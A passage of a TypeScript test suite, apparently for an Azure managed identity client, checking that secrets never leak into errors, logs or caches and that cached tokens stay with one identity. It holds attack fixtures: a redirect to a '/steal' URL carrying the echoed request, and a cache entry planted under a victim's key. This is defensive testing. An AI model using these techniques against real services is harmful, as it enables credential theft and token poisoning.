/**
 * The one security view of the client (issue 8): secrets never leak, cached tokens never cross
 * identities, and every known attack is one row of one table. Secrets are random (see
 * test/helpers/leaks.ts), so "does not contain" is exact, and every trap is live: the attacker's
 * server, file or TLS socket is real, and the controls at the end show it does receive what a
 * broken protection would hand it.
 */
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { createStorage } from "unstorage";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { parseManagedIdentity } from "../src/identity.ts";
import {
  type FetchLike,
  ManagedIdentityClient,
  type ManagedIdentityClientOptions,
  ManagedIdentityError,
  type ManagedIdentityErrorCode,
  type ManagedIdentityLogEvent,
  type ManagedIdentitySource,
  SystemAssignedManagedIdentity,
  UserAssignedManagedIdentity,
} from "../src/index.ts";
import { createNodePlatform } from "../src/platform/node.ts";
import type { Platform } from "../src/platform/types.ts";
import { normalizeResource } from "../src/resource.ts";
import {
  base64Like,
  errorViews,
  findLeaks,
  jwtLike,
  type RecordingServer,
  routingFetch,
  type Secret,
  secret,
  startRecordingServer,
  storageViews,
} from "./helpers/leaks.ts";
import {
  type RecordedRequest,
  type Reply,
  startServer,
  type TestServer,
} from "./helpers/server.ts";
import { createCertificate, receivedText, startRawTlsServer } from "./platform/tls.ts";

const TOKEN_PATH = "/metadata/identity/oauth2/token";
const TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47";
const ENV_CLIENT_ID = "99999999-8888-7777-6666-555555555555";
/** Workload identity's authority must be https; the caller's fetch delivers it to a local server. */
const AUTHORITY_HOST = "login.authority.test";
const RESOURCE = "https://vault.azure.net";

const [certificate, impostor] = await Promise.all([
  createCertificate(),
  createCertificate("impostor"),
]);

// Secrets with base64's `+`, `/` and `=`, as a real secret header or Arc key may have.
const SF_SECRET = secret(base64Like);
const APP_SERVICE_SECRET = secret(base64Like);
const ML_SECRET = secret(base64Like);
const ARC_KEY = secret(base64Like);
// Not JWT-shaped: only the back-end's list of secrets, not the JWT pattern, can redact it.
const ASSERTION = secret((core) => `federated-${core}`);

// Files: the Arc tokens folder and its neighbours, the workload identity token file.
const root = await realpath(await mkdtemp(join(tmpdir(), "mi-security-")));
const tokensFolder = `${join(root, "tokens")}/`;
const elsewhere = `${join(root, "elsewhere")}/`;
const tokenFile = join(root, "azure-identity-token");
await mkdir(tokensFolder);
await mkdir(elsewhere);
await writeFile(`${tokensFolder}good.key`, ARC_KEY.value);
await writeFile(tokenFile, `${ASSERTION.value}\n`);

afterAll(() => rm(root, { recursive: true, force: true }));

/** The Node platform on Linux with the Arc tokens folder in the temporary folder. */
const nodePlatform = (overrides: Partial<Platform> = {}): Platform => ({
  ...createNodePlatform({ arcTokensFolder: tokensFolder }),
  os: "linux",
  ...overrides,
});

async function failure(promise: Promise<unknown>): Promise<ManagedIdentityError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(ManagedIdentityError);
    return error as ManagedIdentityError;
  }
  throw new Error("expected a ManagedIdentityError, got a token");
}

/** What a server received, as the echo a misbehaving endpoint sends back. */
const echoOf = (request: RecordedRequest): string =>
  JSON.stringify({
    method: request.method,
    path: request.path,
    query: request.query,
    headers: request.headers,
    body: request.body,
  });

// ---------------------------------------------------------------------------------------------
// 1. Secrets never leak
// ---------------------------------------------------------------------------------------------

/** A back-end as the leak matrix drives it against a local server that echoes what it received. */
interface LeakBackend {
  source: ManagedIdentitySource;
  /** Service Fabric needs https (its pin is checked); the others are plain http. */
  https: boolean;
  /** What it sends that must never surface: secret header, Arc key, assertion. */
  secrets: Secret[];
  env(serverUrl: string): Record<string, string>;
  options(serverUrl: string): Partial<ManagedIdentityClientOptions>;
}

const LEAK_BACKENDS: LeakBackend[] = [
  {
    source: "service-fabric",
    https: true,
    secrets: [SF_SECRET],
    env: (url) => ({
      IDENTITY_ENDPOINT: `${url}${TOKEN_PATH}`,
      IDENTITY_HEADER: SF_SECRET.value,
      IDENTITY_SERVER_THUMBPRINT: certificate.fingerprint,
    }),
    options: () => ({}),
  },
  {
    source: "app-service",
    https: false,
    secrets: [APP_SERVICE_SECRET],
    env: (url) => ({
      IDENTITY_ENDPOINT: `${url}/msi/token`,
      IDENTITY_HEADER: APP_SERVICE_SECRET.value,
    }),
    options: () => ({}),
  },
  {
    source: "machine-learning",
    https: false,
    secrets: [ML_SECRET],
    env: (url) => ({ MSI_ENDPOINT: `${url}/msi/token`, MSI_SECRET: ML_SECRET.value }),
    options: () => ({}),
  },
  {
    source: "cloud-shell",
    https: false,
    secrets: [],
    env: (url) => ({ MSI_ENDPOINT: `${url}/oauth2/token` }),
    options: () => ({}),
  },
  {
    source: "azure-arc",
    https: false,
    secrets: [ARC_KEY],
    env: (url) => ({ IDENTITY_ENDPOINT: `${url}${TOKEN_PATH}`, IMDS_ENDPOINT: url }),
    options: () => ({}),
  },
  {
    source: "workload-identity",
    https: false,
    secrets: [ASSERTION],
    env: () => ({
      AZURE_AUTHORITY_HOST: `https://${AUTHORITY_HOST}`,
      AZURE_TENANT_ID: TENANT,
      AZURE_CLIENT_ID: ENV_CLIENT_ID,
      AZURE_FEDERATED_TOKEN_FILE: tokenFile,
    }),
    options: (url) => ({ fetch: routingFetch({ [AUTHORITY_HOST]: url }) }),
  },
  {
    source: "imds",
    https: false,
    secrets: [],
    env: (url) => ({ AZURE_POD_IDENTITY_AUTHORITY_HOST: url }),
    options: () => ({}),
  },
];

/** What one scenario's server knows when it answers. */
interface Answer {
  request: RecordedRequest;
  echo: string;
  /** The access token this scenario issues (random, not JWT-shaped). */
  token: string;
  /** A JWT-shaped access token, as real ones are, for bodies that quote one. */
  jwt: string;
  expiresOn: number;
}

/** One way a server answers; every answer carries the echo and, where it can, a token. */
interface LeakScenario {
  name: string;
  reply(answer: Answer): Reply;
  /** The error code expected for each back-end, or "token" for success. */
  outcome: ManagedIdentityErrorCode | "token" | ((source: ManagedIdentitySource) => string);
  /** Limit the scenario to these back-ends. */
  only?: ManagedIdentitySource[];
  /** The answer is kept in the throttling memory and the second call gets it from there. */
  remembered?: boolean;
  identity?: () => UserAssignedManagedIdentity;
}

const tokenBody = ({ token, expiresOn, echo }: Answer, extra: Record<string, unknown> = {}) => ({
  access_token: token,
  token_type: "Bearer",
  expires_in: 3600,
  expires_on: expiresOn,
  resource: RESOURCE,
  echo,
  ...extra,
});

const LEAK_SCENARIOS: LeakScenario[] = [
  {
    name: "a token echoing the request, then the same token from the cache",
    reply: (answer) => ({ body: tokenBody(answer) }),
    outcome: "token",
  },
  {
    name: "an OAuth error whose description and correlation id echo the request",
    reply: ({ echo }) => ({
      status: 400,
      body: { error: "invalid_request", error_description: `bad: ${echo}`, correlation_id: echo },
    }),
    outcome: "invalid_request",
  },
  {
    name: "a nested error whose code, message and correlation id echo the request",
    reply: ({ echo }) => ({
      status: 403,
      body: { error: { code: echo, message: echo, correlationId: echo } },
    }),
    // Service Fabric maps codes it does not know to invalid_request.
    outcome: (source) => (source === "service-fabric" ? "invalid_request" : "unauthorized_client"),
  },
  {
    name: "an App Service style 500 echoing the request, remembered and recalled",
    remembered: true,
    reply: ({ echo }) => ({
      status: 500,
      body: { statusCode: 500, message: echo, correlationId: echo },
    }),
    outcome: "service_unavailable",
  },
  {
    name: "a 429 with Retry-After echoing the request, remembered and recalled",
    remembered: true,
    reply: ({ echo }) => ({
      status: 429,
      headers: { "retry-after": "30" },
      body: { error: "throttled", error_description: echo },
    }),
    outcome: "throttled",
  },
  {
    name: "a redirect whose Location carries the request",
    reply: ({ echo }) => ({
      status: 307,
      headers: { location: `http://127.0.0.2:9/steal?${encodeURIComponent(echo)}` },
      body: echo,
    }),
    outcome: "redirect_refused",
  },
  {
    name: "a 200 with the token and the echo but an unreadable expiry",
    reply: (answer) => ({
      body: tokenBody(answer, { expires_on: `later ${answer.echo}`, expires_in: "?" }),
    }),
    outcome: "invalid_response",
  },
  {
    name: "a 200 that is not JSON, with the token and the echo",
    reply: ({ token, echo }) => ({ body: `<html>${token} ${echo}</html>` }),
    outcome: "invalid_response",
  },
  {
    name: "a 200 over the size cap, with the token and the echo",
    reply: (answer) => ({ body: JSON.stringify(tokenBody(answer, { pad: "x".repeat(300_000) })) }),
    outcome: "invalid_response",
  },
  {
    name: "an error quoting a JWT access token",
    reply: ({ jwt, echo }) => ({
      status: 400,
      body: {
        error: "invalid_grant",
        error_description: `token ${jwt} refused; ${echo}`,
      },
    }),
    outcome: "invalid_grant",
  },
  {
    name: "a token for another identity (not echoing the requested one)",
    reply: (answer) => ({ body: tokenBody(answer, { client_id: ENV_CLIENT_ID }) }),
    outcome: "identity_mismatch",
    only: ["azure-arc"],
    identity: () =>
      new UserAssignedManagedIdentity({ clientId: "11111111-2222-3333-4444-555555555555" }),
  },
];

describe("secrets never leak", () => {
  let http: TestServer;
  let https: TestServer;
  beforeAll(async () => {
    [http, https] = await Promise.all([
      startServer(),
      startServer(undefined, { tls: { key: certificate.key, cert: certificate.cert } }),
    ]);
  });
  afterAll(() => Promise.all([http.close(), https.close()]));

  const cases = LEAK_BACKENDS.flatMap((backend) =>
    LEAK_SCENARIOS.filter(
      (scenario) => !scenario.only || scenario.only.includes(backend.source),
    ).map((scenario) => [backend.source, scenario.name, backend, scenario] as const),
  );

  it.each(cases)("%s: %s", async (_source, _name, backend, scenario) => {
    const server = backend.https ? https : http;
    server.requests.length = 0;
    const token = secret((core) => `at.${core}`);
    const jwt = secret(jwtLike);
    const expiresOn = Math.floor(Date.now() / 1000) + 7200;
    server.handle((request) => {
      // Azure Arc first challenges with its key file; the scenario answers the keyed request.
      if (backend.source === "azure-arc" && request.headers.authorization === undefined) {
        return {
          status: 401,
          headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` },
        };
      }
      return scenario.reply({
        request,
        echo: echoOf(request),
        token: token.value,
        jwt: jwt.value,
        expiresOn,
      });
    });
    const events: ManagedIdentityLogEvent[] = [];
    const httpCache = createStorage();
    const storage = createStorage();
    const client = new ManagedIdentityClient(
      scenario.identity?.() ?? new SystemAssignedManagedIdentity(),
      {
        env: backend.env(server.url),
        platform: nodePlatform(),
        storage,
        httpCache,
        retry: { maxRetries: 1, delayMs: 1 },
        deadline: 5000,
        logger: (event) => events.push(event),
        ...backend.options(server.url),
      },
    );

    const errors: unknown[] = [];
    const results: unknown[] = [];
    for (let call = 0; call < 2; call++) {
      await client.acquireTokenForClient({ resource: RESOURCE }).then(
        (result) => results.push(result),
        (error: unknown) => errors.push(error),
      );
    }

    // The echo carried every secret: the server really received them.
    const received = JSON.stringify(server.requests);
    for (const { core } of backend.secrets) expect(received).toContain(core);
    expect(client.getManagedIdentitySource()).toBe(backend.source);

    const outcome =
      typeof scenario.outcome === "function" ? scenario.outcome(backend.source) : scenario.outcome;
    if (outcome === "token") {
      expect(errors).toEqual([]);
      expect(results).toMatchObject([
        { accessToken: token.value, tokenSource: "identity_provider" },
        { accessToken: token.value, tokenSource: "cache" },
      ]);
    } else {
      expect(results).toEqual([]);
      expect(errors).toHaveLength(2);
      for (const error of errors) {
        expect(error).toBeInstanceOf(ManagedIdentityError);
        expect(error).toMatchObject({ code: outcome, source: backend.source });
      }
    }

    const everything = [...backend.secrets, token, jwt];
    const views = [
      ...errors.flatMap((error) => errorViews(error)),
      ["logger events", JSON.stringify(events)] as [string, string],
      ...(await storageViews(httpCache)),
    ];
    expect(findLeaks(views, everything)).toEqual([]);
    // The token cache holds the token (that is its job) and nothing else secret.
    expect(findLeaks(await storageViews(storage), backend.secrets)).toEqual([]);
    expect(events.length).toBeGreaterThan(0);
    if (scenario.remembered) {
      // The throttling memory really holds the answer (so its check above is not vacuous).
      expect((await httpCache.getKeys()).length).toBeGreaterThan(0);
      expect(events.map((event) => event.type)).toContain("throttled");
    }
  });

  describe("transport failures: the caller's fetch fails with the request in its message", () => {
    /** How a fetch can fail, given the full text of what it was asked to send. */
    const failures: Array<[string, (sent: string) => Promise<Response>, ManagedIdentityErrorCode]> =
      [
        [
          "throws an Error naming the URL, headers and body, with the same in its cause",
          (sent) =>
            Promise.reject(new TypeError(`fetch failed: ${sent}`, { cause: new Error(sent) })),
          "network_error",
        ],
        ["throws a string", (sent) => Promise.reject(sent), "network_error"],
        [
          "resets the connection in the middle of the body",
          (sent) =>
            Promise.resolve(
              new Response(
                new ReadableStream({
                  start(controller) {
                    controller.enqueue(new TextEncoder().encode('{"access_token":"'));
                    controller.error(new Error(`socket hang up after ${sent}`));
                  },
                }),
              ),
            ),
          "network_error",
        ],
      ];
    const backends = LEAK_BACKENDS.filter((backend) => backend.source !== "service-fabric");
    const rows = backends.flatMap((backend) =>
      failures.map(([name, fail, code]) => [backend.source, name, backend, fail, code] as const),
    );

    it.each(rows)("%s: %s", async (_source, _name, backend, fail, code) => {
      const sentTexts: string[] = [];
      const fetch: FetchLike = async (input, init) => {
        const headers = new Headers(init?.headers);
        // Arc's first request is answered, so the keyed one is the one that fails.
        if (backend.source === "azure-arc" && !headers.has("authorization")) {
          return new Response(null, {
            status: 401,
            headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` },
          });
        }
        const sent = `${String(input)} ${JSON.stringify([...headers])} ${String(init?.body ?? "")}`;
        sentTexts.push(sent);
        return fail(sent);
      };
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: backend.env("http://127.0.0.1:9"),
        platform: nodePlatform(),
        fetch,
        retry: false,
      });
      const error = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      expect(error).toMatchObject({ code, source: backend.source });
      for (const { core } of backend.secrets) expect(sentTexts.join()).toContain(core);
      expect(findLeaks(errorViews(error), backend.secrets)).toEqual([]);
    });

    it("service-fabric: the platform's pinned fetch fails with the request in its message", async () => {
      const sentTexts: string[] = [];
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: {
          IDENTITY_ENDPOINT: `https://127.0.0.1:9${TOKEN_PATH}`,
          IDENTITY_HEADER: SF_SECRET.value,
          IDENTITY_SERVER_THUMBPRINT: certificate.fingerprint,
        },
        platform: nodePlatform({
          pinnedFetch: async (input, init) => {
            const sent = `${String(input)} ${JSON.stringify([...new Headers(init?.headers)])}`;
            sentTexts.push(sent);
            throw new Error(`connect failed: ${sent}`, { cause: new Error(sent) });
          },
        }),
        retry: false,
      });
      const error = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      expect(error).toMatchObject({ code: "network_error", source: "service-fabric" });
      expect(sentTexts.join()).toContain(SF_SECRET.core);
      expect(findLeaks(errorViews(error), [SF_SECRET])).toEqual([]);
    });
  });

  describe("holes the first run of this suite found, now closed", () => {
    let server: TestServer;
    beforeAll(async () => {
      server = await startServer();
    });
    afterAll(() => server.close());
    afterEach(() => {
      server.requests.length = 0;
    });

    // A secret with surrounding whitespace is sent trimmed (Headers normalises header values), so
    // the trimmed form is redacted too (secretForms in src/errors.ts).
    it.each([
      ["an Arc key file that ends in a newline", "azure-arc"],
      ["an IDENTITY_HEADER that ends in a newline", "app-service"],
    ] as const)("%s is redacted from an echo of what was sent", async (_name, source) => {
      const value = secret(base64Like);
      await writeFile(`${tokensFolder}newline.key`, `${value.value}\n`);
      server.handle((request) => {
        if (source === "azure-arc" && request.headers.authorization === undefined) {
          return {
            status: 401,
            headers: { "www-authenticate": `Basic realm=${tokensFolder}newline.key` },
          };
        }
        return {
          status: 400,
          body: { error: "invalid_request", error_description: echoOf(request) },
        };
      });
      const env =
        source === "azure-arc"
          ? { IDENTITY_ENDPOINT: `${server.url}${TOKEN_PATH}`, IMDS_ENDPOINT: server.url }
          : { IDENTITY_ENDPOINT: `${server.url}/msi/token`, IDENTITY_HEADER: `${value.value}\n` };
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env,
        platform: nodePlatform(),
        retry: false,
      });
      const error = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      expect(JSON.stringify(server.requests)).toContain(value.core);
      expect(findLeaks(errorViews(error), [value])).toEqual([]);
    });

    /** JSON as .NET's System.Text.Json writes it by default: `+` escaped as \u002B. */
    const dotnetJson = (value: unknown) => JSON.stringify(value).replaceAll("+", "\\u002B");

    // JSON has other spellings of the same string (System.Text.Json escapes `+` as \u002B), so
    // the throttling memory redacts a JSON body value by value, not as raw text.
    it("the throttling memory holds no secret echoed in an escaped JSON spelling", async () => {
      server.handle((request) => ({
        status: 429,
        headers: { "retry-after": "30", "content-type": "application/json" },
        body: dotnetJson({ error: "throttled", error_description: echoOf(request) }),
      }));
      const httpCache = createStorage();
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: {
          IDENTITY_ENDPOINT: `${server.url}/msi/token`,
          IDENTITY_HEADER: APP_SERVICE_SECRET.value,
        },
        httpCache,
        retry: false,
      });
      const error = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      // The error itself is clean: the body is decoded before it is redacted.
      expect(findLeaks(errorViews(error), [APP_SERVICE_SECRET])).toEqual([]);
      expect(findLeaks(await storageViews(httpCache), [APP_SERVICE_SECRET])).toEqual([]);
    });

    // On Azure Arc the same spelling could reach an error: throttling entries are keyed without
    // headers, so the unauthenticated first request of the next call recalls the answer
    // remembered for the keyed one, and turns it into an error with no secrets of its own.
    it("an Arc key echoed in an escaped JSON spelling never reaches a later error", async () => {
      server.handle((request): Reply => {
        if (request.headers.authorization === undefined) {
          return {
            status: 401,
            headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` },
          };
        }
        return {
          status: 503,
          headers: { "retry-after": "30", "content-type": "application/json" },
          body: dotnetJson({ error: { code: "Unavailable", message: echoOf(request) } }),
        };
      });
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: { IDENTITY_ENDPOINT: `${server.url}${TOKEN_PATH}`, IMDS_ENDPOINT: server.url },
        platform: nodePlatform(),
        retry: false,
      });
      const first = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      const second = await failure(client.acquireTokenForClient({ resource: RESOURCE }));
      expect(JSON.stringify(server.requests)).toContain(ARC_KEY.core);
      expect(findLeaks([...errorViews(first), ...errorViews(second)], [ARC_KEY])).toEqual([]);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// 2. Cache isolation
// ---------------------------------------------------------------------------------------------

type IdentityInput = SystemAssignedManagedIdentity | UserAssignedManagedIdentity;

/** What a token was issued for, as the fake services below saw the request. */
type Issued = [source: string, kind: string, id: string, resource: string];

const ISOLATION_ENV: Record<ManagedIdentitySource, Record<string, string>> = {
  "service-fabric": {
    IDENTITY_ENDPOINT: "https://127.0.0.1:9/sf",
    IDENTITY_HEADER: "s",
    IDENTITY_SERVER_THUMBPRINT: certificate.thumbprint,
  },
  "app-service": { IDENTITY_ENDPOINT: "http://127.0.0.1:9/as", IDENTITY_HEADER: "s" },
  "machine-learning": { MSI_ENDPOINT: "http://127.0.0.1:9/ml", MSI_SECRET: "s" },
  "cloud-shell": { MSI_ENDPOINT: "http://127.0.0.1:9/cs" },
  "azure-arc": { IDENTITY_ENDPOINT: "http://127.0.0.1:9/arc", IMDS_ENDPOINT: "http://127.0.0.1:9" },
  "workload-identity": {
    AZURE_AUTHORITY_HOST: `https://${AUTHORITY_HOST}`,
    AZURE_TENANT_ID: TENANT,
    AZURE_CLIENT_ID: ENV_CLIENT_ID,
    AZURE_FEDERATED_TOKEN_FILE: tokenFile,
  },
  imds: { AZURE_POD_IDENTITY_AUTHORITY_HOST: "http://127.0.0.1:9" },
};

/** The user-assigned id kinds each back-end can select. */
const ID_KINDS: Record<ManagedIdentitySource, string[]> = {
  "service-fabric": [],
  "app-service": ["clientId", "objectId", "resourceId"],
  "machine-learning": ["clientId"],
  "cloud-shell": [],
  "azure-arc": ["clientId", "objectId", "resourceId"],
  "workload-identity": ["clientId"],
  imds: ["clientId", "objectId", "resourceId"],
};

const PARAMETER_KINDS: Record<string, string> = {
  client_id: "clientId",
  clientid: "clientId",
  object_id: "objectId",
  msi_res_id: "resourceId",
  mi_res_id: "resourceId",
};

const encodeIssued = (serial: number, issued: Issued) =>
  `T${serial}.${Buffer.from(JSON.stringify(issued)).toString("base64url")}`;
const decodeIssued = (token: string): Issued =>
  JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString()) as Issued;

/**
 * Every back-end's service in one fetch: it reads the request as that service would, and issues a
 * token that names the back-end, the identity (kind and id, lower-cased) and the resource it saw.
 */
function fakeServices(): { fetch: FetchLike; issued: () => number } {
  let serial = 0;
  const fetch: FetchLike = async (input, init) => {
    const url = new URL(String(input));
    const headers = new Headers(init?.headers);
    const query = url.searchParams;
    const form = new URLSearchParams(typeof init?.body === "string" ? init.body : "");
    const version = query.get("api-version");
    const source =
      version === "2019-07-01-preview"
        ? "service-fabric"
        : version === "2019-08-01"
          ? "app-service"
          : version === "2017-09-01"
            ? "machine-learning"
            : version === "2020-06-01"
              ? "azure-arc"
              : version === "2018-02-01"
                ? "imds"
                : form.has("client_assertion")
                  ? "workload-identity"
                  : "cloud-shell";
    if (source === "azure-arc" && headers.get("authorization") !== `Basic ${ARC_KEY.value}`) {
      return new Response(null, {
        status: 401,
        headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` },
      });
    }
    const parameters = init?.method === "POST" ? form : query;
    let kind = "systemAssigned";
    let id = "";
    const echo: Record<string, string> = {};
    for (const [name, value] of parameters) {
      const parameterKind = PARAMETER_KINDS[name];
      if (parameterKind) {
        kind = parameterKind;
        id = value.toLowerCase();
        echo[name] = value;
      }
    }
    const scope = form.get("scope");
    const resource = scope ? scope.replace(/\/\.default$/, "") : (parameters.get("resource") ?? "");
    return Response.json({
      access_token: encodeIssued(++serial, [source, kind, id, resource]),
      token_type: "Bearer",
      expires_in: 3600,
      ...echo,
    });
  };
  return { fetch, issued: () => serial };
}

/** What the service must have been asked for when `identity` asks `source` for `resource`. */
function expectedIssued(
  source: ManagedIdentitySource,
  identity: IdentityInput,
  resource: string,
): Issued {
  const parsed = parseManagedIdentity(identity);
  if (parsed.kind === "systemAssigned") {
    // Workload identity's "system" identity is the client id in AZURE_CLIENT_ID.
    return source === "workload-identity"
      ? [source, "clientId", ENV_CLIENT_ID, resource]
      : [source, "systemAssigned", "", resource];
  }
  return [source, parsed.kind, parsed.id.toLowerCase(), resource];
}

/** Upper-cases the characters where `mask` says so: the same GUID or ARM id, spelled otherwise. */
const recase = (id: string, mask: number) =>
  [...id]
    .map((char, index) => ((mask >> (index % 30)) & 1 ? char.toUpperCase() : char.toLowerCase()))
    .join("");

describe("cache isolation", () => {
  const sources = Object.keys(ISOLATION_ENV) as ManagedIdentitySource[];

  it("randomised identities and resources on every back-end, two clients each and one shared storage, never receive another's token", async () => {
    const call = fc.record({
      source: fc.constantFrom(...sources),
      kind: fc.constantFrom("system", "clientId", "objectId", "resourceId"),
      idIndex: fc.nat({ max: 2 }),
      caseMask: fc.nat(),
      resourceIndex: fc.nat({ max: 4 }),
      slot: fc.constantFrom(0, 1),
    });
    const resourcePool = fc.tuple(
      fc.webUrl({ withQueryParameters: true }),
      fc.webUrl(),
      fc.constantFrom("https://vault.azure.net", "https://VAULT.azure.net"),
      fc.constantFrom("https://management.azure.com/", "api://app-1"),
      fc.constantFrom("https://storage.azure.com/.default", "https://storage.azure.com"),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.tuple(fc.uuid(), fc.uuid(), fc.uuid()),
        resourcePool,
        fc.array(call, { minLength: 1, maxLength: 25 }),
        async (guids, resources, calls) => {
          const storage = createStorage();
          const services = fakeServices();
          const platform = nodePlatform({
            pinnedFetch: (input, init) => services.fetch(input, init),
          });
          const clients = new Map<string, ManagedIdentityClient>();
          /** The model: the token each cache identity holds. */
          const model = new Map<string, string>();
          for (const step of calls) {
            const guid = guids[step.idIndex] as string;
            const rawId =
              step.kind === "resourceId"
                ? `/subscriptions/${guid}/resourceGroups/rg-${step.idIndex}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-${step.idIndex}`
                : guid;
            const identity: IdentityInput =
              step.kind === "system"
                ? new SystemAssignedManagedIdentity()
                : new UserAssignedManagedIdentity({
                    [step.kind]: recase(rawId, step.caseMask),
                  } as never);
            const asked = resources[step.resourceIndex] as string;
            const clientKey = `${step.source} ${JSON.stringify(identity)} ${step.slot}`;
            let client = clients.get(clientKey);
            if (!client) {
              client = new ManagedIdentityClient(identity, {
                env: ISOLATION_ENV[step.source],
                source: step.source,
                storage,
                httpCache: false,
                retry: false,
                fetch: services.fetch,
                platform,
              });
              clients.set(clientKey, client);
            }
            const parsed = parseManagedIdentity(identity);
            if (parsed.kind !== "systemAssigned" && !ID_KINDS[step.source].includes(parsed.kind)) {
              const error = await failure(client.acquireTokenForClient({ resource: asked }));
              expect(error.code).toBe("unsupported_identity");
              continue;
            }
            const resource = normalizeResource(asked);
            const before = services.issued();
            const result = await client.acquireTokenForClient({ resource: asked });
            expect(decodeIssued(result.accessToken)).toEqual(
              expectedIssued(step.source, identity, resource),
            );
            expect(result.resource).toBe(resource);
            // The model predicts every hit and miss: the cache does work, across both clients.
            // The same identity: same back-end, kind and id up to case, and the exact resource.
            const cacheKey = JSON.stringify([
              step.source,
              parsed.kind,
              parsed.kind === "systemAssigned" ? "" : parsed.id.toLowerCase(),
              resource,
            ]);
            const known = model.get(cacheKey);
            if (known === undefined) {
              expect(result.tokenSource).toBe("identity_provider");
              expect(services.issued()).toBe(before + 1);
              model.set(cacheKey, result.accessToken);
            } else {
              expect(result).toMatchObject({ tokenSource: "cache", accessToken: known });
              expect(services.issued()).toBe(before);
            }
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it("ids that differ only by case are one identity; ids that differ otherwise are not", async () => {
    const storage = createStorage();
    const services = fakeServices();
    const guid = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";
    const client = (id: string) =>
      new ManagedIdentityClient(new UserAssignedManagedIdentity({ clientId: id }), {
        env: ISOLATION_ENV.imds,
        storage,
        fetch: services.fetch,
        retry: false,
      });
    const first = await client(guid).acquireTokenForClient({ resource: RESOURCE });
    const upper = await client(guid.toUpperCase()).acquireTokenForClient({ resource: RESOURCE });
    const other = await client(guid.replace("0a", "0b")).acquireTokenForClient({
      resource: RESOURCE,
    });
    expect(upper).toMatchObject({ tokenSource: "cache", accessToken: first.accessToken });
    expect(other.tokenSource).toBe("identity_provider");
    expect(decodeIssued(other.accessToken)[2]).toBe(guid.replace("0a", "0b"));
  });

  it("an entry planted under another identity's storage key is not served", async () => {
    const storage = createStorage();
    const services = fakeServices();
    const victim = new UserAssignedManagedIdentity({
      clientId: "aaaaaaaa-0000-4000-8000-000000000001",
    });
    const attacker = new UserAssignedManagedIdentity({
      clientId: "bbbbbbbb-0000-4000-8000-000000000002",
    });
    const options = {
      env: ISOLATION_ENV["app-service"],
      storage,
      fetch: services.fetch,
      retry: false as const,
    };
    await new ManagedIdentityClient(attacker, options).acquireTokenForClient({
      resource: RESOURCE,
    });
    const [attackerKey] = await storage.getKeys();
    // Where the victim's entry lives, found by letting the victim fill a storage of its own.
    const probe = createStorage();
    await new ManagedIdentityClient(victim, { ...options, storage: probe }).acquireTokenForClient({
      resource: RESOURCE,
    });
    const [victimKey] = await probe.getKeys();
    expect(attackerKey).toBeDefined();
    expect(victimKey).toBeDefined();
    expect(victimKey).not.toBe(attackerKey);
    await storage.setItem(victimKey as string, await storage.getItem(attackerKey as string));
    const token = await new ManagedIdentityClient(victim, options).acquireTokenForClient({
      resource: RESOURCE,
    });
    expect(token.tokenSource).toBe("identity_provider");
    expect(decodeIssued(token.accessToken)[2]).toBe("aaaaaaaa-0000-4000-8000-000000000001");
  });

  // The system-assigned identity has no id, but on some back-ends the environment names which
  // identity it is: a hash of those variables (SourceDefinition.partitionVariables, secrets
  // included) is in the cache key, so two environments sharing one storage never share a token. (IMDS's endpoint is the same on
  // every VM: the README says to give each machine's identities their own prefixStorage.)
  it.each([
    [
      "workload identity, AZURE_CLIENT_ID",
      "workload-identity",
      { AZURE_CLIENT_ID: "cccccccc-0000-4000-8000-000000000003" },
    ],
    [
      "workload identity, AZURE_TENANT_ID",
      "workload-identity",
      { AZURE_TENANT_ID: "contoso.example" },
    ],
    [
      "Machine Learning, DEFAULT_IDENTITY_CLIENT_ID",
      "machine-learning",
      { DEFAULT_IDENTITY_CLIENT_ID: "dddddddd-0000-4000-8000-000000000004" },
    ],
    [
      "App Service, another app's endpoint and secret",
      "app-service",
      { IDENTITY_ENDPOINT: "http://127.0.0.1:8/other-app", IDENTITY_HEADER: "other" },
    ],
    // Container Apps give every app the same localhost endpoint: only the secret differs.
    [
      "App Service, the same endpoint with another app's secret",
      "app-service",
      { IDENTITY_HEADER: "other" },
    ],
    [
      "Machine Learning, the same endpoint with another secret",
      "machine-learning",
      { MSI_SECRET: "other" },
    ],
  ] as const)(
    "two environments selecting different system-assigned identities (%s) do not share a token",
    async (_name, source, difference) => {
      const storage = createStorage();
      const services = fakeServices();
      const client = (env: Record<string, string>) =>
        new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
          env,
          source,
          storage,
          fetch: services.fetch,
          platform: nodePlatform(),
          retry: false,
        });
      const first = await client(ISOLATION_ENV[source]).acquireTokenForClient({
        resource: RESOURCE,
      });
      const second = await client({
        ...ISOLATION_ENV[source],
        ...difference,
      }).acquireTokenForClient({
        resource: RESOURCE,
      });
      expect(second.accessToken).not.toBe(first.accessToken);
      expect(second.tokenSource).toBe("identity_provider");
    },
  );
});

// ---------------------------------------------------------------------------------------------
// 3. One table of attacks
// ---------------------------------------------------------------------------------------------

/** A trap set for one attack: the client to drive and what the attacker's side recorded. */
interface Trap {
  client: ManagedIdentityClient;
  /** Values that must reach neither the error nor the attacker. */
  secrets: Secret[];
